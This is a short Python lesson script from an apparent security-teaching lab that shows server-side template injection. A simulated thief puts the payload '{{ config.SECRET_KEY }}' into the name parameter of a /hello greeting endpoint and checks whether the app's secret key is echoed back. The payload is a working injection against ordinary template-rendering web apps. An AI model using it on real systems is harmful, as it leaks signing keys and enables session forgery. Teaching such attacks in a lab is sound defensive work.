"""A thief puts a template into his name, and the server runs it.

A colleague has added /hello, which greets visitors by their name.
"""

from __future__ import annotations

from urllib.parse import quote

from tools.lessons.lab import Lab

NAME = "{{ config.SECRET_KEY }}"


def attack(lab: Lab) -> str:
    """Return what was stolen; "" for nothing."""
    with lab.serve() as shop:
        thief, key = shop.visitor(), shop.app.config["SECRET_KEY"]
        print(f"/hello?name=Ann answers: {thief.get('/hello?name=Ann').text}")
        print(f"/hello?name={NAME}")
        answer = thief.get(f"/hello?name={quote(NAME)}")
        print(f"answers: {answer.text}")
    return f"The thief has the secret key, {key}, and can sign any session (lesson 1)." if key in answer.text else ""
